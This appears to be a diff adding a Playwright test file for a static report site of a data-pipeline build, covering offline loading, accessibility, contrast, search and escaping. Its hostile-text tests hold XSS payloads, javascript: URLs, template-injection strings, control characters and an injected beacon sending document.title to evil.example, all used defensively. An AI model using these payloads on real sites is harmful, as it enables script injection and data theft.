@@ -1,0 +1,603 @@
+"""The review site, in a real Chromium: it opens from disk, explains a build, and shows hostile text as text."""
+
+import json
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+import pytest
+import yaml
+from tiny import ROOT, Project
+
+from lineage.report import write_report
+from lineage.report.census import take
+from lineage.report.documents import DROPPED, HELD_OUT, TRAIN, UNEXTRACTED, quotas, sample
+from lineage.report.drawings import bar_edges, heights, spoken
+from lineage.report.pages import PAGES, digest
+from stages.params import Refusal
+
+CHROMIUM = shutil.which("chromium")
+NAMES = [f"{page}.html" for page in PAGES]
+STORIES = "data/extract/stories/documents-00000.parquet"
+
+# What a page must show as it stands, and never run. `hit` is what any of it would set.
+ATTACKS = [
+    "<script>hit('script')</script>",
+    "</script><script>hit('end of data')</script>",
+    "</title></style></textarea><svg onload=hit('svg')>",
+    "<img src=x onerror=hit('image')>",
+    "\"><a onmouseover=hit('attribute') href=javascript:hit(1)>x</a>",
+    "<style>*{display:none}</style>",
+    "{{7*7}}{% raw %}{{ cycler.__init__.__globals__ }}",
+    "${7*7}`<!--",
+    "<!--<script>",
+    "a\u2028hit('line')\u2029b",
+]
+STEERING = "\u202egnp.exe\x1b[2J\x00\u2066"
+HOSTILE_SOURCE = "<img src=x onerror=hit('source')>"
+HOSTILE = {
+    "origin": ATTACKS[0] + STEERING,
+    "license": ATTACKS[3],
+    "date": ATTACKS[4],
+    "language": ATTACKS[5],
+}
+
+
+# ---- a browser --------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="session")
+def chromium() -> Iterator[Any]:
+    """The system's Chromium."""
+    if CHROMIUM is None:
+        pytest.skip("there is no Chromium here: install the package chromium")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+class Visit:
+    """A page in a browser, and all that it said, asked for and did since it was opened."""
+
+    def __init__(self, browser: Any, **settings: Any) -> None:
+        self.page = browser.new_page(**settings)
+        self.complaints: list[str] = []
+        self.asked: list[str] = []
+        self.page.add_init_script("window.hits = []; window.hit = (what) => window.hits.push(what);")
+        self.page.on("console", lambda message: self.complaints.append(message.text))
+        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        self.page.on("requestfailed", lambda request: self.complaints.append(f"failed: {request.url}"))
+        self.page.on("dialog", lambda dialog: self.complaints.append(f"dialog: {dialog.message}"))
+        self.page.on("request", lambda request: self.asked.append(request.url))
+
+    def open(self, path: Path, fragment: str = "") -> Any:
+        """The page at `path`."""
+        self.page.goto("about:blank")  # a change of the fragment alone would not load it anew
+        self.page.goto(path.as_uri() + (f"#{fragment}" if fragment else ""))
+        return self.page
+
+    @property
+    def hits(self) -> list[str]:
+        """What ran that must not."""
+        return list(self.page.evaluate("window.hits"))
+
+
+@pytest.fixture
+def visit(chromium: Any) -> Iterator[Visit]:
+    """A page as wide as a desk's."""
+    found = Visit(chromium, viewport={"width": 1200, "height": 900})
+    yield found
+    found.page.close()
+
+
+# ---- reports ----------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="session")
+def site(committed: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The report of a tiny build."""
+    return write_report(committed.folder, tmp_path_factory.mktemp("site") / "report").parent
+
+
+@pytest.fixture(scope="session")
+def hostile(committed: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The report of a build whose every text attacks whoever reads it."""
+    folder = tmp_path_factory.mktemp("hostile") / "project"
+    shutil.copytree(committed.folder, folder, symlinks=True)
+    plant(Project(folder))
+    return write_report(folder, folder.parent / "report").parent
+
+
+def plant(project: Project) -> None:
+    """Give the build in `project` hostile documents, a hostile source, hostile samples and parameters.
+
+    The files change in the working tree, and the digests in dvc.lock, so that the cache doesn't know them.
+    """
+    plant_documents(project.folder / STORIES)
+    plant_decisions(project.folder / "data/dedup/stories/decisions-00000.parquet")
+    for path in project.folder.glob("data/*/scripts"):
+        path.rename(path.with_name(HOSTILE_SOURCE))
+    samples = [{"prompt": attack, "temperature": 0.0, "text": attack + STEERING} for attack in ATTACKS]
+    (project.folder / "models/samples.json").write_text(json.dumps(samples))
+    for name in ("params.yaml", "dvc.lock"):
+        path = project.folder / name
+        path.write_text(path.read_text().replace("corpus/scripts", "corpus/other"))
+        values = renamed(yaml.safe_load(path.read_text()))
+        path.write_text(yaml.safe_dump(values, sort_keys=False, allow_unicode=True))
+
+
+def plant_documents(path: Path) -> None:
+    table = pl.read_parquet(path)
+    urls = ["javascript:hit('url')", "JaVaScRiPt:hit(2)", "data:text/html,<script>hit(3)</script>", "vbscript:hit(4)"]
+    metas = [
+        json.dumps({"title": ATTACKS[n % len(ATTACKS)] + f" number {n}", "url": urls[n % 4]}) for n in range(len(table))
+    ]
+    metas[1] = json.dumps({"title": ATTACKS[1] + STEERING, "url": "https://evil.example/<script>hit('path')</script>"})
+    changed = {name: pl.Series(name, [value, *table[name][1:]], pl.String) for name, value in HOSTILE.items()}
+    table.with_columns(**changed, meta=pl.Series(metas)).write_parquet(path)
+
+
+def plant_decisions(path: Path) -> None:
+    table = pl.read_parquet(path)
+    dropped = pl.int_range(pl.len()) == 2
+    table.with_columns(
+        keep=pl.col("keep") & ~dropped,
+        split=pl.when(~dropped).then("split"),
+        rule=pl.when(dropped).then(pl.lit(ATTACKS[0])).otherwise("rule"),
+    ).write_parquet(path)
+
+
+def renamed(value: Any) -> Any:
+    """`value` with the source scripts renamed, digests that no cache has, and attacks among the parameters."""
+    if isinstance(value, dict):
+        changed = {renamed(key): renamed(each) for key, each in value.items()}
+        if str(changed.get("path", "")).startswith(("data/", "models/samples")):
+            changed["md5"] = f"{changed['md5'][:8]}{'0' * 24}"
+        return changed
+    if isinstance(value, list):
+        return [renamed(each) for each in value]
+    if value == "CC0-1.0":
+        return ATTACKS[0]
+    if isinstance(value, str):
+        return re.sub(r"(?<=[@/.])scripts\b|^scripts$", lambda _: HOSTILE_SOURCE, value)
+    return value
+
+
+# ---- it opens ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_page_opens_from_disk_without_a_complaint_and_asks_for_nothing_else(site, visit, name):
+    page = visit.open(site / name)
+
+    assert visit.complaints == []
+    assert visit.asked == [(site / name).as_uri()]
+    assert page.locator("h1").count() == 1
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_page_has_landmarks_a_language_and_tables_that_say_what_their_cells_are(site, visit, name):
+    page = visit.open(site / name)
+
+    assert page.locator("html[lang=en]").count() == 1
+    assert [page.locator(kind).count() for kind in ("body > header", "main", "body > footer")] == [1, 1, 1]
+    assert page.locator("th:not([scope])").count() == 0
+    assert page.locator("table:not(:has(caption))").count() == 0
+    assert page.locator("svg:not([aria-hidden]):not(:has(> title))").count() == 0
+    assert page.locator("[id]").evaluate_all("all => all.length === new Set(all.map((one) => one.id)).size")
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_page_on_a_phone_scrolls_down_only(site, chromium, name):
+    phone = Visit(chromium, viewport={"width": 360, "height": 740})
+    page = phone.open(site / name, "source=stories" if name == "documents.html" else "")
+
+    assert page.evaluate("document.documentElement.scrollWidth") == 360
+    page.close()
+
+
+CONTRAST = """() => {
+  const parse = (colour) => colour.match(/[\\d.]+/g).map(Number);
+  const light = ([r, g, b]) => {
+    const [x, y, z] = [r, g, b].map((v) => v / 255).map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
+    return 0.2126 * x + 0.7152 * y + 0.0722 * z;
+  };
+  const ground = (node) => {
+    for (let each = node; each; each = each.parentElement) {
+      const [r, g, b, a = 1] = parse(getComputedStyle(each).backgroundColor);
+      if (a === 1) return [r, g, b];
+      if (a !== 0) throw new Error("a translucent ground");
+    }
+    return parse(getComputedStyle(document.documentElement).backgroundColor);
+  };
+  const behind = (text) => {  // the last shape before it, in the drawing, that holds its middle
+    const box = text.getBoundingClientRect(), x = box.x + box.width / 2, y = box.y + box.height / 2;
+    const shapes = [...text.ownerSVGElement.querySelectorAll("rect")].filter((rect) => {
+      const place = rect.getBoundingClientRect();
+      const before = rect.compareDocumentPosition(text) & Node.DOCUMENT_POSITION_FOLLOWING;
+      return before && place.left <= x && x <= place.right && place.top <= y && y <= place.bottom;
+    });
+    return shapes.length ? parse(getComputedStyle(shapes.at(-1)).fill) : ground(text.ownerSVGElement);
+  };
+  const worst = {};
+  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
+    const element = node.parentElement, style = getComputedStyle(element);
+    if (!node.data.trim() || !element.getClientRects().length || element.closest("script, title")) continue;
+    const [front, back] = element.ownerSVGElement
+      ? [parse(style.fill), behind(element)] : [parse(style.color), ground(element)];
+    const [high, low] = [light(front), light(back)].sort((one, other) => other - one);
+    const ratio = (high + 0.05) / (low + 0.05);
+    const key = `${front} on ${back}`;
+    worst[key] = Math.round(ratio * 100) / 100;
+  }
+  return worst;
+}"""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_all_text_stands_out_from_its_ground(site, chromium, scheme):
+    visit = Visit(chromium, color_scheme=scheme)
+    found = {}
+    for name in NAMES:
+        page = visit.open(site / name, "q=story" if name == "documents.html" else "")
+        found |= page.evaluate(CONTRAST)
+
+    grounds = {key.partition(" on ")[2] for key in found}
+    assert len(found) > 5
+    assert all(
+        (sum(map(int, ground.split(","))) > 400) == (scheme == "light")
+        for ground in grounds
+        if ground.count(",") == 2
+        and "," in ground
+        and max(map(int, ground.split(","))) - min(map(int, ground.split(","))) < 60
+    )
+    assert {key: ratio for key, ratio in found.items() if ratio < 4.5} == {}
+    visit.page.close()
+
+
+def test_every_colour_of_a_drawing_has_one_in_the_dark(site):
+    style = (ROOT / "lineage/report/templates/style.css").read_text(encoding="utf-8")
+    drawn = set(re.findall(r'(?:fill|stroke)="#[0-9a-f]+"', (site / "build.html").read_text(encoding="utf-8")))
+
+    assert len(drawn) > 10
+    assert {each for each in drawn if f"svg [{each}]" not in style} == set()
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_page_prints_in_the_colours_of_paper(site, chromium, name):
+    visit = Visit(chromium, color_scheme="dark")
+    page = visit.open(site / name)
+    page.emulate_media(media="print", color_scheme="dark")
+
+    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(31, 41, 51)"
+    assert page.pdf().startswith(b"%PDF")
+    page.close()
+
+
+# ---- what it says -----------------------------------------------------------------------------------------
+
+
+def test_search_finds_a_document_and_says_which_rule_dropped_it(site, visit, committed):
+    dropped = decisions(committed, "stories").filter(pl.col("rule") == "language.min_score").row(0, named=True)
+    page = visit.open(site / "documents.html")
+
+    page.get_by_role("searchbox").fill(dropped["origin"].upper())
+
+    page.locator("#status", has_text="1 document").wait_for()
+    score = f"{dropped['value']:.4g}"
+    expected = f"Dropped by language.min_score: language score is {score}, at least 0.65 is asked."
+    assert page.locator("#results .fate").inner_text() == expected
+    assert page.locator("#results code").inner_text() == dropped["id"]
+    assert visit.complaints == []
+
+
+def test_search_leads_from_a_duplicate_to_what_was_kept(site, visit, committed):
+    dropped = decisions(committed, "stories").filter(pl.col("rule").str.contains("duplicate")).row(0, named=True)
+    page = visit.open(site / "documents.html", f"q={dropped['id']}")
+
+    page.get_by_role("link", name=dropped["duplicate_of"]).click()
+
+    page.locator("#results code", has_text=dropped["duplicate_of"]).wait_for()
+    assert page.locator("#results li").count() == 1
+    assert page.get_by_role("searchbox").input_value() == dropped["duplicate_of"]
+
+
+def test_a_rule_of_the_funnel_leads_to_the_documents_that_it_dropped(site, visit, committed):
+    page = visit.open(site / "build.html")
+    rule = "language.min_score"
+    expected = decisions(committed, "stories").filter(pl.col("rule") == rule)["id"].to_list()
+
+    page.get_by_role("link", name=rule).first.click()
+
+    page.locator("#results li").first.wait_for()
+    assert sorted(page.locator("#results dd > code").all_inner_texts()) == sorted(expected)
+
+
+def test_the_site_is_used_by_keyboard_alone(site, visit):
+    page = visit.open(site / "build.html")
+
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
+    assert page.evaluate("document.activeElement.getBoundingClientRect().left") >= 0
+    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
+    page.keyboard.press("Enter")
+    assert page.evaluate("document.activeElement.id") == "main"
+    while page.evaluate("document.activeElement.textContent") != "Documents":
+        page.keyboard.press("Shift+Tab")
+    page.keyboard.press("Enter")
+    page.wait_for_url("**/documents.html")
+    page.keyboard.press("/")
+    page.keyboard.type("story 62")
+    page.keyboard.press("Tab")
+    page.keyboard.type("stories")
+    assert page.evaluate("document.activeElement.value") == "stories"
+    assert page.locator("#status").inner_text() == "0 documents"
+    page.keyboard.press("/")
+    page.keyboard.press("Control+A")
+    page.keyboard.type("#62")
+    assert page.locator("#status").inner_text() == "1 document"
+
+
+def decisions(project: Project, source: str) -> pl.DataFrame:
+    return pl.read_parquet(project.folder / f"data/dedup/{source}/decisions-*.parquet")
+
+
+def test_every_document_is_counted_once_and_tokens_are_those_of_the_shards(committed):
+    for census in take(committed.folder, committed.params):
+        read, kept, dedup, tokens = (
+            committed.json(f"data/{stage}/{census.source}/manifest.json")["counts"]
+            for stage in ("extract", "filter", "dedup", "tokenize")
+        )
+        assert census.documents == read["read"]
+        assert census.of(UNEXTRACTED).documents == sum(read["dropped"].values())
+        assert census.of(DROPPED).documents == sum(kept["dropped"].values()) + sum(dedup["dropped"].values())
+        assert census.of(HELD_OUT).documents == dedup["held_out"]
+        assert (census.of(TRAIN).documents, census.of(TRAIN).tokens) == (tokens["documents"], tokens["tokens"])
+        by_rule = {count.name: count.documents for count in census.rules}
+        assert by_rule == {**read["dropped"], **kept["dropped"], **dedup["dropped"]}
+
+
+def test_tokens_of_what_was_never_tokenized_are_estimated_and_said_to_be(committed):
+    [census, _] = take(committed.folder, committed.params)
+    counts = committed.json("data/tokenize/stories/manifest.json")["counts"]
+    signals = pl.read_parquet(committed.folder / "data/extract/stories/signals-*.parquet", columns=["id", "bytes"])
+    held_out = decisions(committed, "stories").filter(pl.col("split") == "held_out").join(signals, on="id")
+
+    assert census.of(HELD_OUT).is_estimate
+    assert census.of(HELD_OUT).tokens == pytest.approx(held_out["bytes"].sum() * counts["tokens"] / counts["bytes"])
+    assert not census.of(TRAIN).is_estimate
+
+
+def test_the_build_page_shows_figures_digests_and_samples_of_the_build(site, committed):
+    text = (site / "build.html").read_text(encoding="utf-8")
+
+    for digest_ in committed.outs().values():
+        assert digest_ in text
+    assert f"{committed.json('metrics/evaluate.json')['bits_per_byte']['model']:.4f}" in text
+    assert committed.json("models/samples.json")[0]["prompt"] in text
+    assert "<strong>No record</strong> of any stage" in text
+
+
+def test_published_versions_stand_beside_the_build_that_is_not_committed(repository, tmp_path, visit):
+    tag = ["git", "-c", "user.name=tiny", "-c", "user.email=tiny@localhost", "tag", "--annotate", "--message", "x"]
+    for name in ("base@v1.0.0", "base#prod#1", "unrelated@v9.0.0"):
+        subprocess.run([*tag, name], cwd=repository.folder, check=True)
+    lock = repository.folder / "dvc.lock"
+    lock.write_text(lock.read_text().replace("model_type: llama", "model_type: mistral"))
+    index = write_report(repository.folder, tmp_path / "report")
+
+    page = visit.open(index)
+
+    rows = page.locator("tbody tr").all_inner_texts()
+    assert [row.split("\t")[0] for row in rows] == ["not committed this report", "v1.0.0 current"]
+    page = visit.open(index.with_name("changes.html"))
+    assert "pretrain.model.model_type llama mistral" in " ".join(page.locator("main").inner_text().split())
+
+
+def test_a_revision_is_reported_from_the_cache(committed, site, tmp_path):
+    write_report(committed.folder, tmp_path / "report", "HEAD")
+
+    assert read(tmp_path / "report") == read(site)
+
+
+def test_what_the_cache_lacks_is_named_and_the_rest_is_shown(repository, tmp_path):
+    outs = repository.outs()
+    gone = (
+        repository.folder / ".dvc/cache/files/md5" / outs["models/samples.json"][:2] / outs["models/samples.json"][2:]
+    )
+    gone.unlink()
+    (repository.folder / "models/samples.json").unlink()
+
+    write_report(repository.folder, tmp_path / "report")
+
+    text = (tmp_path / "report/build.html").read_text(encoding="utf-8")
+    assert f"object {outs['models/samples.json']} of models/samples.json" in text
+    assert "models/samples.json of this build is not here" in text
+    assert "Every stage, what it made" in text
+
+
+def test_two_reports_of_a_build_are_equal_byte_by_byte_and_small(committed, site, tmp_path):
+    write_report(committed.folder, tmp_path / "again")
+    write_report(committed.folder, tmp_path / "again")  # over itself
+
+    assert read(tmp_path / "again") == read(site)
+    assert sum(map(len, read(site).values())) < 1_000_000
+
+
+def read(folder: Path) -> dict[str, bytes]:
+    return {path.name: path.read_bytes() for path in folder.iterdir()}
+
+
+def test_a_folder_of_something_else_is_left_alone(committed, tmp_path):
+    (tmp_path / "thesis.txt").write_text("mine")
+
+    with pytest.raises(Refusal, match="holds something else than a report"):
+        write_report(committed.folder, tmp_path)
+    assert [path.name for path in tmp_path.iterdir()] == ["thesis.txt"]
+
+
+def test_a_report_is_made_without_torch_dvc_or_prefect(committed, tmp_path):
+    script = (
+        "import sys; from pathlib import Path; from lineage.report import write_report\n"
+        f"write_report(Path({str(committed.folder)!r}), Path('report'))\n"
+        "print([name for name in ('torch', 'transformers', 'dvc', 'prefect', 'flows') if name in sys.modules])"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True,
+        env={**committed.environment(), "PYTHONPATH": str(ROOT)},
+    )  # fmt: skip
+
+    assert done.stdout.strip() == "[]", done.stderr
+
+
+# ---- hostile text -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_nothing_that_the_data_says_is_run(hostile, visit, name):
+    page = visit.open(hostile / name)
+    if name == "documents.html":
+        for query in ("script", "number", "evil", "hit"):
+            page.get_by_role("searchbox").fill(query)
+            page.locator("#results li").first.wait_for()
+    for element in page.locator("main a, main td, main bdi, main blockquote").all()[:40]:
+        element.dispatch_event("mouseover")
+
+    assert visit.hits == []
+    assert visit.complaints == []
+    assert visit.asked == [(hostile / name).as_uri()]
+    assert page.locator("main img, main iframe, main script, main style, main [onerror], main [onload]").count() == 0
+
+
+def test_hostile_text_is_shown_as_the_text_that_it_is(hostile, visit):
+    page = visit.open(hostile / "build.html")
+    shown = page.locator("main").inner_text()
+
+    for attack in ATTACKS:
+        assert attack.replace("\u2028", " ").replace("\u2029", " ") in shown.replace("\u2028", " ").replace(
+            "\u2029", " "
+        )
+    assert HOSTILE_SOURCE in shown
+    assert not set(STEERING) & {"\u202e", "\x1b", "\x00", "\u2066"} & set(shown)
+    assert "49" not in page.locator(".samples").inner_text()
+
+
+def test_search_shows_hostile_documents_as_text_and_links_only_to_the_web(hostile, visit):
+    page = visit.open(hostile / "documents.html")
+
+    page.get_by_role("searchbox").fill("number")
+    page.locator("#results li").first.wait_for()
+    assert page.locator("#results h2").first.inner_text().startswith(ATTACKS[0][:20])
+    assert page.locator("#results a[href^='javascript' i], #results a[href^='data' i]").count() == 0
+    assert page.locator("#results dd", has_text="javascript:hit").count() > 0
+    page.get_by_role("searchbox").fill("evil.example")
+    link = page.get_by_role("link", name="https://evil.example")
+    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+    assert page.locator("#results h2").inner_text().startswith(ATTACKS[1])
+    assert "\u202e" not in page.locator("#results").inner_text()
+
+
+@pytest.mark.parametrize(
+    "fragment", ["q=%3Cimg src=x onerror=hit(1)%3E", "source=%3Cscript%3Ehit(1)&rule=%22%3E%3Cb%3E", "%", "q=%E0%A4%A"]
+)
+def test_a_hostile_address_is_a_search_for_nothing(hostile, visit, fragment):
+    visit.open(hostile / "documents.html", fragment)
+
+    assert (visit.hits, visit.complaints) == ([], [])
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_page_allows_its_own_script_and_style_alone(hostile, visit, name):
+    text = (hostile / name).read_text(encoding="utf-8")
+    policy = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
+    styles = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
+    scripts = re.findall(r"<script>(.*?)</script>", text, re.DOTALL)
+    rules = dict(rule.split(" ", 1) for rule in policy[0].split("; "))
+
+    assert len(policy) == 1
+    assert text.index("Content-Security-Policy") < text.index("<style>")
+    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
+    assert rules["style-src"] == digest(styles[0])
+    assert rules["script-src"] == (digest(scripts[0]) if scripts else "'none'")
+    assert len(scripts) == (name == "documents.html")
+    assert not re.search(r"\s(on\w+|style)=[\"']", text)
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "document.body.append(Object.assign(document.createElement('script'), {text: 'hit(1)'}))",
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit(2)>')",
+        "document.body.setAttribute('onclick', 'hit(3)'), document.body.click()",
+        "new Image().src = 'https://evil.example/' + document.title",
+        "fetch('https://evil.example/')",
+        "setTimeout('hit(4)')",
+    ],
+)
+def test_the_policy_stops_an_attack_that_got_through(site, visit, attack):
+    """The second lock: what a bug in our escaping would let in."""
+    visit.open(site / "documents.html")
+
+    visit.page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ console.log(String(error)) }} }}")
+    visit.page.wait_for_timeout(50)
+
+    assert visit.hits == []
+    assert visit.complaints
+    assert not [url for url in visit.asked if "evil" in url and not any(url in said for said in visit.complaints)]
+
+
+# ---- small parts ------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("sizes", "most", "given"),
+    [
+        ({"a": 10, "b": 20}, 100, {"a": 10, "b": 20}),
+        ({"a": 9000, "b": 10, "c": 5000}, 1000, {"a": 495, "b": 10, "c": 495}),
+        ({"a": 5, "b": 5, "c": 5}, 2, {"a": 1, "b": 1, "c": 1}),
+        ({"a": 0, "b": 7}, 4, {"a": 0, "b": 4}),
+    ],
+)
+def test_small_sources_are_sampled_whole_and_large_ones_alike(sizes, most, given):
+    assert quotas(sizes, most) == given
+
+
+def test_a_sample_does_not_depend_on_how_documents_are_sharded():
+    table = pl.DataFrame({"id": [f"{7919 * number % 1000:03}" for number in range(100)]})
+
+    whole = sample([table], 10)
+    parts = [table[:30], table[30:31], table[31:]]
+    chosen = sample([], 10).select("id")
+    for part in parts:
+        chosen = sample([chosen, part], 10)
+
+    assert chosen["id"].to_list() == whole["id"].to_list()
+    assert sorted(whole["id"]) == sorted(table["id"])[:10]
+
+
+def test_a_histogram_counts_every_value_and_holds_its_threshold():
+    values = [0.0, 0.1, 0.5, 0.9, 5.0]
+    edges = bar_edges(values, 0.95, is_log=False)
+
+    assert sum(heights([*values, -1.0, 99.0], edges)) == 7
+    assert edges[0] <= 0.95 <= edges[-1]
+    assert edges == sorted(set(edges))
+    assert bar_edges([3.0, 3.0], None, is_log=True)[0] == 3.0
+    assert len(bar_edges([], None, is_log=False)) == len(edges)
+
+
+@pytest.mark.parametrize(
+    ("seconds", "said"), [(0.25, "0.2 s"), (48, "48 s"), (725, "12 min 5 s"), (12000, "3 h 20 min")]
+)
+def test_a_duration_reads_as_people_write_it(seconds, said):
+    assert spoken(seconds) == said
